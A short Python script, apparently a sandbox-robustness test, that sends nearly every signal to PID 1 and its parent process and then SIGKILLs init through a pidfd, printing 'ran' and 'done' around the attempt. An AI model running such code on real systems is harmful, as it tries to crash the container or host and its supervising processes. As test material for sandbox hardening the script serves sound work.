import os
import signal
import time

print("ran", flush=True)
for number in range(1, 65):
    for process in (1, os.getppid()):
        if number not in (32, 33) and process not in (0, os.getpid()):
            try:
                os.kill(process, number)
            except OSError:
                pass
descriptor = os.pidfd_open(1)
try:
    signal.pidfd_send_signal(descriptor, signal.SIGKILL)
except OSError:
    pass
time.sleep(0.2)
print("done")
